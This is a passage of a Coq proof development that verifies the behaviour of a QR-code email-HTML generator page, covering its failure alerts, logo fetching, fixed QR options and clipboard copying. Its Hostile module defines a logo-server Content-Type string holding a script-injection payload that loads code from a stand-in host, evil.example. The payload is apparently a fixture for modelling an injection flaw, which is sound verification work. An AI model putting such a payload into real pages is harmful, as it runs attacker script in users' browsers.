| settled_init : forall clip, reachable_settled env props (Part000.initialWorld clip)
| settled_step : forall w ev,
    reachable_settled env props w ->
    Part000.enabled ev w = true ->
    match ev with
    | Part000.LogoUrlInput _ => Page.readers w = []
    | _ => True
    end ->
    reachable_settled env props (Part000.step env props ev w).

(** The argument of a call that leaves the page. *)
Definition call_argument (c : Call) : string :=
  match c with
  | CallFetch u => u
  | CallToDataURL text _ => text
  | CallWriteText text => text
  end.

Module Denied.

(** The sample browser with a clipboard that refuses every write and file
    reads that fail. *)
Definition env : Env :=
  mkEnv (fetch Sample.env) (fun _ => None) (QRCode_toDataURL Sample.env)
        (Date_getFullYear Sample.env) (fun _ => false)
        (fs_readFile_base64 Sample.env).

End Denied.

(** A complete document around the QR image [qr]: it opens with the
    doctype, closes with the end tag of [html], and holds the image element
    of [qr] under the alternative text of [part_000]. *)
Definition rendered_document (qr h : string) : Prop :=
  Scan.starts_with "<!DOCTYPE html>" h = true
  /\ (exists body, h = (body ++ "</html>")%string)
  /\ (exists pre post, h = (pre ++ Scan.image "QR Code" qr ++ post)%string).

Module Hostile.

(** A media type with a quoted parameter, as a logo server can send it in
    its [Content-Type]; the blob of the response carries it as its type. *)
Definition media_type : string :=
  Eval vm_compute in
    JS.html_text "image/png;x='><script src=//evil.example/x.js></script>'".


(** The sample browser facing that server: every fetch is answered with such
    a blob, and reading a blob as a data URL puts its type after [data:]. *)
Definition env : Env :=
  mkEnv (fun _ => Some (mkResponse (Some (mkBlob media_type "AAAA"))))
        (fun b => Some ("data:" ++ blob_type b ++ ";base64," ++ blob_data b)%string)
        (QRCode_toDataURL Sample.env)
        (Date_getFullYear Sample.env)
        (clipboard_writeText Sample.env)
        (fs_readFile_base64 Sample.env).

End Hostile.

(** * Properties *)

Import Page.

Arguments Part000.buildEmailHtml : simpl never.
Arguments PagesIndex.buildEmailHtml : simpl never.
Arguments Part000.document : simpl never.
Arguments Part000.logoToUse : simpl never.

(** ** Running the handlers *)

Ltac run_monad :=
  cbv beta iota delta
    [Page.bind Page.try_catch Page.ret Page.throw Page.alert Page.update
     Page.console_error Page.call Page.set_clipboard Page.set_readers
     Page.set_timers Page.await Page.toDataURL].

(** [fetchLogoDataUri] settles the same way in every world and records the
    request. *)
Lemma fetchLogoDataUri_run env u :
  exists r : Error + string, forall w : Part000.World,
    Part000.fetchLogoDataUri env u w
    = (r, mkWorld (state w) (alerts w) (console w) (calls w ++ [CallFetch u])
                  (clipboard w) (readers w) (timers w)).
Proof.
  unfold Part000.fetchLogoDataUri. run_monad.
  destruct (fetch env u) as [res|]; run_monad; [|eexists; intros; reflexivity].
  destruct (response_body res) as [b|]; run_monad; [|eexists; intros; reflexivity].
  destruct (FileReader_readAsDataURL env b); eexists; intros; reflexivity.
Qed.

(** The first block of the [try] never throws; it may warn once and fetch
    once, and touches nothing else. *)
Lemma customLogoDataUri_run env s :
  exists (v : option string) (warn : list string) (cs : list Call),
    (forall w : Part000.World,
       Part000.customLogoDataUri env s w
       = (inr v, mkWorld (state w) (alerts w ++ warn) (console w) (calls w ++ cs)
                         (clipboard w) (readers w) (timers w)))
    /\ (warn = [] \/ warn = [Part000.fetch_warning])
    /\ (cs = [] \/ cs = [CallFetch (Part000.logoUrl s)]).
Proof.
  unfold Part000.customLogoDataUri.
  destruct (JS.truthy_opt (Part000.localLogoDataUri s)).
  - exists (Part000.localLogoDataUri s), [], []. split; [|auto].
    intros [st al co ca cl rd tm]. unfold Page.ret. cbn. now rewrite !app_nil_r.
  - destruct (JS.truthy (Part000.logoUrl s)).
    + destruct (fetchLogoDataUri_run env (Part000.logoUrl s)) as [r Hr].
      destruct r as [e|v].
      * exists None, [Part000.fetch_warning], [CallFetch (Part000.logoUrl s)].
        split; [|auto]. intros w. run_monad. rewrite Hr. reflexivity.
      * exists (Some v), [], [CallFetch (Part000.logoUrl s)]. split; [|auto].
        intros w. run_monad. rewrite Hr. cbn. now rewrite app_nil_r.
    + exists None, [], []. split; [|auto].
      intros [st al co ca cl rd tm]. unfold Page.ret. cbn. now rewrite !app_nil_r.
Qed.

Lemma customLogo_local env s (w : Part000.World) :
  JS.truthy_opt (Part000.localLogoDataUri s) = true ->
  Part000.customLogoDataUri env s w = (inr (Part000.localLogoDataUri s), w).
Proof. intros H. unfold Part000.customLogoDataUri. now rewrite H. Qed.

Lemma customLogo_none env s (w : Part000.World) :
  JS.truthy_opt (Part000.localLogoDataUri s) = false ->
  JS.truthy (Part000.logoUrl s) = false ->
  Part000.customLogoDataUri env s w = (inr None, w).
Proof. intros H1 H2. unfold Part000.customLogoDataUri. now rewrite H1, H2. Qed.

Lemma customLogo_fetched env s (w w0 : Part000.World) v :
  JS.truthy_opt (Part000.localLogoDataUri s) = false ->
  JS.truthy (Part000.logoUrl s) = true ->
  fst (Part000.fetchLogoDataUri env (Part000.logoUrl s) w0) = inr v ->
  Part000.customLogoDataUri env s w
  = (inr (Some v),
     mkWorld (state w) (alerts w) (console w)
       (calls w ++ [CallFetch (Part000.logoUrl s)])
       (clipboard w) (readers w) (timers w)).
Proof.
  intros H1 H2 Hf. unfold Part000.customLogoDataUri. rewrite H1, H2.
  destruct (fetchLogoDataUri_run env (Part000.logoUrl s)) as [r Hr].
  rewrite Hr in Hf. cbn in Hf. subst r.
  run_monad. now rewrite Hr.
Qed.

Lemma customLogo_failed env s (w w0 : Part000.World) e :
  JS.truthy_opt (Part000.localLogoDataUri s) = false ->
  JS.truthy (Part000.logoUrl s) = true ->
  fst (Part000.fetchLogoDataUri env (Part000.logoUrl s) w0) = inl e ->
  Part000.customLogoDataUri env s w
  = (inr None,
     mkWorld (state w) (alerts w ++ [Part000.fetch_warning]) (console w)
       (calls w ++ [CallFetch (Part000.logoUrl s)])
       (clipboard w) (readers w) (timers w)).
Proof.
  intros H1 H2 Hf. unfold Part000.customLogoDataUri. rewrite H1, H2.
  destruct (fetchLogoDataUri_run env (Part000.logoUrl s)) as [r Hr].
  rewrite Hr in Hf. cbn in Hf. subst r.
  run_monad. now rewrite Hr.
Qed.

(** Only [localLogoDataUri] and [logoUrl] are read by the first block. *)
Lemma customLogo_frame env s s' :
  Part000.localLogoDataUri s' = Part000.localLogoDataUri s ->
  Part000.logoUrl s' = Part000.logoUrl s ->
  Part000.customLogoDataUri env s' = Part000.customLogoDataUri env s.
Proof. intros H1 H2. unfold Part000.customLogoDataUri. now rewrite H1, H2. Qed.

Lemma logoToUse_custom props s custom :
  JS.truthy_opt custom = true -> Part000.logoToUse props s custom = custom.
Proof. intros H. unfold Part000.logoToUse, JS.or_else. now rewrite H. Qed.

Lemma logoToUse_builtin props s custom :
  JS.truthy_opt custom = false ->
  Part000.logoToUse props s custom
  = if (Part000.template s =? "Document")%string
    then Some (Part000.defaultLogoDataUri props) else None.
Proof. intros H. unfold Part000.logoToUse, JS.or_else. now rewrite H. Qed.

(** What [handleGenerate] does with a non-empty URL, by the answer of the QR
    library. *)
Lemma handleGenerate_run env props (w : Part000.World) :
  JS.truthy (Part000.url (state w)) = true ->
  exists (custom : option string) (warn : list string) (cs : list Call),
    (forall w0 : Part000.World,
       Part000.customLogoDataUri env (state w) w0
       = (inr custom, mkWorld (state w0) (alerts w0 ++ warn) (console w0)
                              (calls w0 ++ cs) (clipboard w0) (readers w0) (timers w0)))
    /\ (warn = [] \/ warn = [Part000.fetch_warning])
    /\ (cs = [] \/ cs = [CallFetch (Part000.logoUrl (state w))])
    /\ Part000.handleGenerate env props w
       = match QRCode_toDataURL env (Part000.url (state w)) qrOptions with
         | inr qr =>
             (inr tt,
              mkWorld
                (Part000.setCopyStatus idle
                   (Part000.setHtml
                      (Part000.buildEmailHtml env (Part000.template (state w)) qr
                         (Part000.logoToUse props (state w) custom))
                      (state w)))
                (alerts w ++ warn) (console w)
                ((calls w ++ cs) ++ [CallToDataURL (Part000.url (state w)) qrOptions])
                (clipboard w) (readers w) (timers w))
         | inl e =>
             (inr tt,
              mkWorld (state w)
                ((alerts w ++ warn) ++ ["Failed to generate QR code."])
                (console w ++ [e])
                ((calls w ++ cs) ++ [CallToDataURL (Part000.url (state w)) qrOptions])
                (clipboard w) (readers w) (timers w))
         end.
Proof.
  intros Hurl.
  destruct (customLogoDataUri_run env (state w)) as (v & warn & cs & Hrun & Hwarn & Hcs).
  exists v, warn, cs. repeat split; try assumption.
  unfold Part000.handleGenerate. rewrite Hurl. cbn [negb].
  run_monad. rewrite Hrun. cbn.
  destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions); reflexivity.
Qed.

Lemma index_handleGenerate_run env props (w : PagesIndex.World) :
  JS.truthy (PagesIndex.url (state w)) = true ->
  PagesIndex.handleGenerate env props w
  = match QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions with
    | inr qr =>
        (inr tt,
         mkWorld
           (PagesIndex.setCopyStatus idle
              (PagesIndex.setHtml (PagesIndex.buildEmailHtml env props qr) (state w)))
           (alerts w) (console w)
           (calls w ++ [CallToDataURL (PagesIndex.url (state w)) qrOptions])
           (clipboard w) (readers w) (timers w))
    | inl e =>
        (inr tt,
         mkWorld (state w) (alerts w ++ ["Failed to generate QR code."])
           (console w ++ [e])
           (calls w ++ [CallToDataURL (PagesIndex.url (state w)) qrOptions])
           (clipboard w) (readers w) (timers w))
    end.
Proof.
  intros Hurl. unfold PagesIndex.handleGenerate. rewrite Hurl. cbn [negb].
  run_monad. cbn.
  destruct (QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions); reflexivity.
Qed.

Ltac generate_with Hurl Hcustom Hqr :=
  unfold Part000.handleGenerate; rewrite Hurl; cbn [negb];
  run_monad; rewrite Hcustom; cbn; rewrite Hqr; cbn.

(** ** Generation: failures *)

(** C1. When the QR library rejects the target URL the attempt ends there:
    no cell of the state changes, so the document shown before stays as it
    was and nothing partial replaces it; the error is logged and the alert
    "Failed to generate QR code." is raised (after the logo warning, if the
    logo fetch had failed too); the handler itself does not throw.  Both
    pages. *)
Theorem C1_qr_failure_keeps_output :
  (forall env props (w : Part000.World) e,
      JS.truthy (Part000.url (state w)) = true ->
      QRCode_toDataURL env (Part000.url (state w)) qrOptions = inl e ->
      let w' := snd (Part000.handleGenerate env props w) in
      fst (Part000.handleGenerate env props w) = inr tt /\
      state w' = state w /\
      console w' = console w ++ [e] /\
      clipboard w' = clipboard w /\
      exists warn, (warn = [] \/ warn = [Part000.fetch_warning]) /\
        alerts w' = alerts w ++ warn ++ ["Failed to generate QR code."])
  /\ (forall env props (w : PagesIndex.World) e,
      JS.truthy (PagesIndex.url (state w)) = true ->
      QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions = inl e ->
      let w' := snd (PagesIndex.handleGenerate env props w) in
      fst (PagesIndex.handleGenerate env props w) = inr tt /\
      state w' = state w /\
      console w' = console w ++ [e] /\
      clipboard w' = clipboard w /\
      alerts w' = alerts w ++ ["Failed to generate QR code."]).
Proof.
  split; intros env props w e Hurl Hqr.
  - destruct (handleGenerate_run env props w Hurl)
      as (custom & warn & cs & _ & Hwarn & _ & Hgen).
    rewrite Hgen, Hqr. cbn [fst snd state console clipboard alerts].
    repeat split. exists warn. split; [exact Hwarn | now rewrite app_assoc].
  - rewrite (index_handleGenerate_run env props w Hurl), Hqr.
    repeat split.
Qed.

Lemma C1_witness :
  let w := Sample.after [Part000.UrlInput Sample.long_url] in
  let w' := snd (Part000.handleGenerate Sample.env Sample.props w) in
  let v := Sample.index_with_url Sample.long_url in
  let v' := snd (PagesIndex.handleGenerate Sample.env Sample.props_index v) in
  (JS.truthy (Part000.url (state w)) = true
   /\ QRCode_toDataURL Sample.env (Part000.url (state w)) qrOptions = inl Sample.too_big
   /\ state w' = state w
   /\ alerts w' = ["Failed to generate QR code."])
  /\ (JS.truthy (PagesIndex.url (state v)) = true
      /\ state v' = state v
      /\ alerts v' = ["Failed to generate QR code."]).
Proof.
  cbv zeta. split.
  - pose proof (proj1 C1_qr_failure_keeps_output Sample.env Sample.props
                  (Sample.after [Part000.UrlInput Sample.long_url]) Sample.too_big
                  eq_refl eq_refl) as H.
    cbv zeta in H. destruct H as (_ & Hstate & _ & _ & warn & _ & Halerts).
    split; [reflexivity|]. split; [reflexivity|]. split; [exact Hstate|].
    vm_compute. reflexivity.
  - pose proof (proj2 C1_qr_failure_keeps_output Sample.env Sample.props_index
                  (Sample.index_with_url Sample.long_url) Sample.too_big
                  eq_refl eq_refl) as H.
    cbv zeta in H. destruct H as (_ & Hstate & _ & _ & Halerts).
    split; [reflexivity|]. split; [exact Hstate | exact Halerts].
Defined.

(** C2. With an empty target URL, generation does nothing but raise the
    prompt "Please paste a URL first.": the state (rendered html, copy
    status, logo cells and all others) is the same, no call leaves the page,
    nothing is logged.  Both pages. *)
Theorem C2_empty_url_is_rejected :
  (forall env props (w : Part000.World),
      Part000.url (state w) = "" ->
      Part000.handleGenerate env props w
      = (inr tt, mkWorld (state w) (alerts w ++ ["Please paste a URL first."])
                         (console w) (calls w) (clipboard w) (readers w) (timers w)))
  /\ (forall env props (w : PagesIndex.World),
      PagesIndex.url (state w) = "" ->
      PagesIndex.handleGenerate env props w
      = (inr tt, mkWorld (state w) (alerts w ++ ["Please paste a URL first."])
                         (console w) (calls w) (clipboard w) (readers w) (timers w))).
Proof.
  split; intros env props w Hurl.
  - unfold Part000.handleGenerate. rewrite Hurl. reflexivity.
  - unfold PagesIndex.handleGenerate. rewrite Hurl. reflexivity.
Qed.

Lemma C2_witness :
  Part000.handleGenerate Sample.env Sample.props (Part000.initialWorld "")
  = (inr tt,
     mkWorld Part000.initialState ["Please paste a URL first."] [] [] "" [] 0)
  /\ PagesIndex.handleGenerate Sample.env Sample.props_index (PagesIndex.initialWorld "")
     = (inr tt,
        mkWorld PagesIndex.initialState ["Please paste a URL first."] [] [] "" [] 0).
Proof.
  split.
  - exact (proj1 C2_empty_url_is_rejected Sample.env Sample.props
             (Part000.initialWorld "") eq_refl).
  - exact (proj2 C2_empty_url_is_rejected Sample.env Sample.props_index
             (PagesIndex.initialWorld "") eq_refl).
Defined.

(** ** Logo sources *)

(** Choosing a file empties the remote URL and records the file. *)
Lemma handleFileChange_clears_logoUrl file files (w : Part000.World) :
  Part000.logoUrl (state (snd (Part000.handleFileChange (Some (file :: files)) w))) = ""
  /\ Part000.logoFile (state (snd (Part000.handleFileChange (Some (file :: files)) w)))
     = Some file.
Proof. split; reflexivity. Qed.

(** Typing a remote URL drops the file and its data. *)
Lemma logoUrl_onChange_clears_local value (w : Part000.World) :
  Part000.local_source_active (state (snd (Part000.logoUrl_onChange value w))) = false
  /\ Part000.logoUrl (state (snd (Part000.logoUrl_onChange value w))) = value.
Proof. split; reflexivity. Qed.

(** C4 at its failing input.  A file is chosen, a remote URL is typed while
    the file is still being read, and the read then completes: the world is
    reachable and both the remote URL and the local image data are set. *)
Theorem C4_stale_file_read_activates_both_sources :
  let evs := [Part000.FileInput (Some [Sample.logo_file]);
              Part000.LogoUrlInput Sample.live_logo_url;
              Part000.ReaderLoadEnd 0] in
  let w := Sample.after evs in
  Part000.reachable Sample.env Sample.props w
  /\ Part000.logoUrl (state w) = Sample.live_logo_url
  /\ Part000.localLogoDataUri (state w) = Some Sample.png
  /\ Part000.remote_source_active (state w) = true
  /\ Part000.local_source_active (state w) = true.
Proof.
  cbv zeta. split; [|repeat split].
  unfold Sample.after, Part000.run. cbn [fold_left].
  repeat (apply Part000.reachable_step; [|reflexivity]).
  apply Part000.reachable_init.
Qed.

(** ** Changing the template *)





(** ** The QR image *)

(** A transition adds no call to the QR library other than one with the
    fixed options. *)
Lemma step_qr_calls env props ev (w : Part000.World) text o :
  In (CallToDataURL text o) (calls (Part000.step env props ev w)) ->
  In (CallToDataURL text o) (calls w) \/ o = qrOptions.
Proof.
  unfold Part000.step. destruct ev; cbn [Part000.handler].
  - cbn. auto.
  - cbn. auto.
  - unfold Part000.handleFileChange. destruct (Part000.first_file files); cbn; auto.
  - cbn. auto.
  - destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
    + destruct (handleGenerate_run env props w Hurl)
        as (custom & warn & cs & _ & _ & Hcs & Hgen).
      rewrite Hgen.
      assert (Hin : In (CallToDataURL text o)
                      ((calls w ++ cs)
                       ++ [CallToDataURL (Part000.url (state w)) qrOptions]) ->
                    In (CallToDataURL text o) (calls w) \/ o = qrOptions).
      { intros Hin. apply in_app_or in Hin as [Hin|Hin].
        - apply in_app_or in Hin as [Hin|Hin]; [now left|].
          destruct Hcs as [-> | ->]; [contradiction|].
          destruct Hin as [Hin|[]]. discriminate Hin.
        - destruct Hin as [Hin|[]]. injection Hin as _ <-. now right. }
      destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
        cbn [snd calls]; exact Hin.
    + unfold Part000.handleGenerate. rewrite Hurl. cbn. auto.
  - unfold Part000.handleCopy.
    destruct (clipboard_writeText env (Part000.html (state w))); cbn;
      intros Hin; apply in_app_or in Hin as [Hin|Hin]; try (now left);
      destruct Hin as [Hin|[]]; discriminate Hin.
  - unfold Part000.reader_onloadend.
    destruct (nth_error (readers w) i); cbn; auto.
  - unfold Part000.timer_fires. destruct (timers w); cbn; auto.
Qed.

Lemma reachable_qr_calls env props (w : Part000.World) :
  Part000.reachable env props w ->
  forall text o, In (CallToDataURL text o) (calls w) -> o = qrOptions.
Proof.
  induction 1 as [clip | w ev Hreach IH Hen]; intros text o Hin.
  - destruct Hin.
  - apply step_qr_calls in Hin as [Hin | ->]; [exact (IH _ _ Hin) | reflexivity].
Qed.

(** C7. Every call the page makes to the QR library carries the options
    width 200, margin 2, dark "#000", light "#fff": a generation with a
    non-empty URL makes exactly one such call, on that URL, one with an empty
    URL makes none, and no other handler makes any, so that the calls of a
    reachable world all carry these options.  The image embedded is the
    answer to that call: two generations from states with the same URL embed
    the same image, whatever else differs between the states.  Both pages. *)
Theorem C7_fixed_options_and_same_image :
  (forall env props (w : Part000.World),
      let w' := snd (Part000.handleGenerate env props w) in
      (Part000.url (state w) = "" -> calls w' = calls w)
      /\ (JS.truthy (Part000.url (state w)) = true ->
          exists cs,
            (cs = [] \/ cs = [CallFetch (Part000.logoUrl (state w))])
            /\ calls w'
               = calls w ++ cs
                 ++ [CallToDataURL (Part000.url (state w))
                       (mkQROptions 200 2 "#000" "#fff")]))
  /\ (forall env props (w : Part000.World),
      Part000.reachable env props w ->
      forall text o,
        In (CallToDataURL text o) (calls w) -> o = mkQROptions 200 2 "#000" "#fff")
  /\ (forall env props (w1 w2 : Part000.World) qr,
      Part000.url (state w1) = Part000.url (state w2) ->
      JS.truthy (Part000.url (state w1)) = true ->
      QRCode_toDataURL env (Part000.url (state w1))
        (mkQROptions 200 2 "#000" "#fff") = inr qr ->
      exists logo1 logo2,
        Part000.html (state (snd (Part000.handleGenerate env props w1)))
        = Part000.buildEmailHtml env (Part000.template (state w1)) qr logo1
        /\ Part000.html (state (snd (Part000.handleGenerate env props w2)))
           = Part000.buildEmailHtml env (Part000.template (state w2)) qr logo2)
  /\ (forall env props (w : PagesIndex.World),
      let w' := snd (PagesIndex.handleGenerate env props w) in
      (PagesIndex.url (state w) = "" -> calls w' = calls w)
      /\ (JS.truthy (PagesIndex.url (state w)) = true ->
          calls w'
          = calls w ++ [CallToDataURL (PagesIndex.url (state w))
                          (mkQROptions 200 2 "#000" "#fff")]))
  /\ (forall env props (w1 w2 : PagesIndex.World) qr,
      PagesIndex.url (state w1) = PagesIndex.url (state w2) ->
      JS.truthy (PagesIndex.url (state w1)) = true ->
      QRCode_toDataURL env (PagesIndex.url (state w1))
        (mkQROptions 200 2 "#000" "#fff") = inr qr ->
      PagesIndex.html (state (snd (PagesIndex.handleGenerate env props w1)))
      = PagesIndex.buildEmailHtml env props qr
      /\ PagesIndex.html (state (snd (PagesIndex.handleGenerate env props w2)))
         = PagesIndex.buildEmailHtml env props qr).
Proof.
  change (mkQROptions 200 2 "#000" "#fff") with qrOptions.
  repeat apply conj.
  - intros env props w w'. subst w'. split.
    + intros Hurl. unfold Part000.handleGenerate. rewrite Hurl. reflexivity.
    + intros Hurl.
      destruct (handleGenerate_run env props w Hurl)
        as (custom & warn & cs & _ & _ & Hcs & Hgen).
      exists cs. split; [exact Hcs|]. rewrite Hgen.
      destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
        cbn [snd calls]; now rewrite app_assoc.
  - exact reachable_qr_calls.
  - intros env props w1 w2 qr Hsame Hurl Hqr.
    destruct (handleGenerate_run env props w1 Hurl)
      as (c1 & ? & ? & _ & _ & _ & Hg1).
    assert (Hurl2 : JS.truthy (Part000.url (state w2)) = true)
      by (rewrite <- Hsame; exact Hurl).
    destruct (handleGenerate_run env props w2 Hurl2)
      as (c2 & ? & ? & _ & _ & _ & Hg2).
    rewrite <- Hsame in Hg2. rewrite Hqr in Hg1, Hg2.
    exists (Part000.logoToUse props (state w1) c1),
           (Part000.logoToUse props (state w2) c2).
    rewrite Hg1, Hg2. split; reflexivity.
  - intros env props w w'. subst w'. split.
    + intros Hurl. unfold PagesIndex.handleGenerate. rewrite Hurl. reflexivity.
    + intros Hurl. rewrite (index_handleGenerate_run env props w Hurl).
      destruct (QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions);
        reflexivity.
  - intros env props w1 w2 qr Hsame Hurl Hqr.
    assert (Hurl2 : JS.truthy (PagesIndex.url (state w2)) = true)
      by (rewrite <- Hsame; exact Hurl).
    rewrite (index_handleGenerate_run env props w1 Hurl),
            (index_handleGenerate_run env props w2 Hurl2).
    rewrite <- Hsame, Hqr. split; reflexivity.
Qed.

Lemma C7_witness :
  let w1 := Sample.after [Part000.UrlInput Sample.doc_url] in
  let w2 := Sample.after [Part000.TemplateSelect "Statement";
                          Part000.LogoUrlInput Sample.live_logo_url;
                          Part000.UrlInput Sample.doc_url] in
  (exists cs,
     calls (snd (Part000.handleGenerate Sample.env Sample.props w2))
     = cs ++ [CallToDataURL Sample.doc_url (mkQROptions 200 2 "#000" "#fff")])
  /\ (forall text o,
      In (CallToDataURL text o)
        (calls (Sample.after [Part000.UrlInput Sample.doc_url;
                              Part000.GenerateClick])) ->
      o = mkQROptions 200 2 "#000" "#fff")
  /\ exists logo1 logo2,
       Part000.html (state (snd (Part000.handleGenerate Sample.env Sample.props w1)))
       = Part000.buildEmailHtml Sample.env "Document" Sample.qr_png logo1
       /\ Part000.html (state (snd (Part000.handleGenerate Sample.env Sample.props w2)))
          = Part000.buildEmailHtml Sample.env "Statement" Sample.qr_png logo2.
Proof.
  cbv zeta. repeat apply conj.
  - destruct (proj2 (proj1 C7_fixed_options_and_same_image Sample.env Sample.props
                       (Sample.after [Part000.TemplateSelect "Statement";
                                      Part000.LogoUrlInput Sample.live_logo_url;
                                      Part000.UrlInput Sample.doc_url]))
                eq_refl) as (cs & _ & Hcalls).
    exists cs. exact Hcalls.
  - apply (proj1 (proj2 C7_fixed_options_and_same_image) Sample.env Sample.props).
    unfold Sample.after, Part000.run. cbn [fold_left].
    repeat (apply Part000.reachable_step; [|reflexivity]).
    apply Part000.reachable_init.
  - exact (proj1 (proj2 (proj2 C7_fixed_options_and_same_image))
             Sample.env Sample.props
             (Sample.after [Part000.UrlInput Sample.doc_url])
             (Sample.after [Part000.TemplateSelect "Statement";
                            Part000.LogoUrlInput Sample.live_logo_url;
                            Part000.UrlInput Sample.doc_url])
             Sample.qr_png eq_refl eq_refl eq_refl).
Defined.

(** ** Copying *)

(** C8. When [writeText] succeeds, the clipboard holds the [html] cell as it
    was when the button was pressed, that is the document the last
    generation stored, character for character; the cell itself is not
    touched, and that string is what was handed to the clipboard.  Both
    pages. *)
Theorem C8_copy_places_rendered_html :
  (forall env (w : Part000.World),
      let w' := snd (Part000.handleCopy env w) in
      clipboard_writeText env (Part000.html (state w)) = true ->
      clipboard w' = Part000.html (state w)
      /\ Part000.html (state w') = Part000.html (state w)
      /\ calls w' = calls w ++ [CallWriteText (Part000.html (state w))])
  /\ (forall env (w : PagesIndex.World),
      let w' := snd (PagesIndex.handleCopy env w) in
      clipboard_writeText env (PagesIndex.html (state w)) = true ->
      clipboard w' = PagesIndex.html (state w)
      /\ PagesIndex.html (state w') = PagesIndex.html (state w)
      /\ calls w' = calls w ++ [CallWriteText (PagesIndex.html (state w))]).
Proof.
  split; intros env w w' Hok; subst w'.
  - unfold Part000.handleCopy. rewrite Hok. repeat split.
  - unfold PagesIndex.handleCopy. rewrite Hok. repeat split.
Qed.

Lemma C8_witness :
  let w := Sample.after [Part000.UrlInput Sample.doc_url; Part000.GenerateClick] in
  let v := snd (PagesIndex.handleGenerate Sample.env Sample.props_index
                  (Sample.index_with_url Sample.doc_url)) in
  (clipboard_writeText Sample.env (Part000.html (state w)) = true
   /\ clipboard (snd (Part000.handleCopy Sample.env w))
      = Part000.buildEmailHtml Sample.env "Document" Sample.qr_png
          (Some (Part000.defaultLogoDataUri Sample.props)))
  /\ clipboard (snd (PagesIndex.handleCopy Sample.env v))
     = PagesIndex.buildEmailHtml Sample.env Sample.props_index Sample.qr_png.
Proof.
  cbv zeta. split; [split; [reflexivity|]|].
  - exact (proj1 (proj1 C8_copy_places_rendered_html Sample.env
                    (Sample.after [Part000.UrlInput Sample.doc_url;
                                   Part000.GenerateClick]) eq_refl)).
  - exact (proj1 (proj2 C8_copy_places_rendered_html Sample.env
                    (snd (PagesIndex.handleGenerate Sample.env Sample.props_index
                            (Sample.index_with_url Sample.doc_url))) eq_refl)).
Defined.

(** ** Template keys *)

Lemma string_app_inv_head (a x y : string) :
  (a ++ x)%string = (a ++ y)%string -> x = y.
Proof.
  induction a as [|c a IH]; cbn; intros H; [exact H|].
  injection H as H. exact (IH H).
Qed.


(** An inherited key is rendered with the text "undefined" in every
    surrounding, never with the Document texts. *)
Lemma inherited_key_document_differs env key qr logo :
  Part000.config key = Part000.Inherited key ->
  Part000.buildEmailHtml env key qr logo
  <> Part000.buildEmailHtml env "Document" qr logo.
Proof.
  intros Hkey H.
  unfold Part000.buildEmailHtml, Part000.document in H. rewrite Hkey in H.
  apply string_app_inv_head in H. discriminate H.
Qed.


(** ** Choosing no file *)

(** C10. A change event of the file input that carries no file, be the file
    list empty or absent, leaves the world as it was: no cell of the state
    changes and no read is started. *)
Theorem C10_no_file_changes_nothing :
  forall w : Part000.World,
    Part000.handleFileChange (Some []) w = (inr tt, w)
    /\ Part000.handleFileChange None w = (inr tt, w).
Proof. intros w. split; reflexivity. Qed.

(** ** The rendered document *)

Import Scan.

Section ScanFacts.

Local Open Scope string_scope.

Lemma app_assoc_s (a b c : string) : (a ++ b) ++ c = a ++ b ++ c.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma app_nil_r_s (a : string) : a ++ "" = a.
Proof. induction a as [|x a IH]; cbn; [reflexivity | now rewrite IH]. Qed.

Lemma starts_with_app_long p : forall a x,
  String.length p <= String.length a -> starts_with p (a ++ x) = starts_with p a.
Proof.
  induction p as [|c p IH]; intros a x Hlen; [reflexivity|].
  destruct a as [|d a]; simpl in *; [lia|].
  rewrite IH by lia. reflexivity.
Qed.

Lemma starts_with_app_short p : forall a x,
  String.length a < String.length p ->
  starts_with p (a ++ x) = true -> starts_with a p = true.
Proof.
  induction p as [|c p IH]; intros a x Hlen H; simpl in *; [lia|].
  destruct a as [|d a]; [reflexivity|]. simpl in *.
  apply andb_true_iff in H as [H1 H2].
  apply Ascii.eqb_eq in H1; subst d. rewrite Ascii.eqb_refl. simpl.
  apply (IH a x); [lia | exact H2].
Qed.

Lemma starts_with_too_short p a :
  String.length a < String.length p -> starts_with p a = false.
Proof.
  revert a; induction p as [|c p IH]; intros a Hlen; simpl in *; [lia|].
  destruct a as [|d a]; [reflexivity|]. simpl in *.
  rewrite IH by lia. apply andb_false_r.
Qed.

Lemma starts_with_split p : forall s,
  starts_with p s = true -> exists r, s = p ++ r.
Proof.
  induction p as [|c p IH]; intros s H; [exists s; reflexivity|].
  destruct s as [|d s]; [discriminate|]. cbn in H.
  apply andb_true_iff in H as [Hc Hs]. apply Ascii.eqb_eq in Hc. subst d.
  destruct (IH s Hs) as [r ->]. exists r. reflexivity.
Qed.

(** Occurrences add up over a literal whose end no occurrence straddles. *)
Lemma count_sub_app_borderless p : forall a x,
  borderless p a = true -> count_sub p (a ++ x) = count_sub p a + count_sub p x.
Proof.
  induction a as [|d a IH]; intros x Hb; [reflexivity|].
  cbn [borderless] in Hb. apply andb_true_iff in Hb as [Hhere Hrest].
  change (String d a ++ x) with (String d (a ++ x)).
  cbn [count_sub]. rewrite (IH x Hrest).
  assert (E : starts_with p (String d (a ++ x)) = starts_with p (String d a)).
  { destruct (Nat.ltb (String.length (String d a)) (String.length p)) eqn:Hlt.
    - apply Nat.ltb_lt in Hlt. rewrite (starts_with_too_short _ _ Hlt).
      destruct (starts_with p (String d (a ++ x))) eqn:Hs; [|reflexivity].
      apply (starts_with_app_short p (String d a) x Hlt) in Hs.
      rewrite Hs in Hhere. discriminate.
    - apply Nat.ltb_ge in Hlt. exact (starts_with_app_long p (String d a) x Hlt). }
  rewrite E. lia.
Qed.

(** No occurrence begins inside a value that lacks the first character. *)
Lemma count_sub_hole c p v : forall x,
  nochar c v = true -> count_sub (String c p) (v ++ x) = count_sub (String c p) x.
Proof.
  induction v as [|d v IH]; intros x Hn; [reflexivity|].
  cbn [nochar] in Hn. apply andb_true_iff in Hn as [Hd Hv].
  change (String d v ++ x) with (String d (v ++ x)).
  cbn [count_sub starts_with]. apply negb_true_iff in Hd. rewrite Hd. simpl.
  apply IH, Hv.
Qed.

Lemma count_sub_assemble c p ps :
  pieces_ok (String c p) c ps ->
  count_sub (String c p) (assemble ps) = lit_count (String c p) ps.
Proof.
  induction ps as [|[a|v] ps IH]; intros Hok; [reflexivity| |];
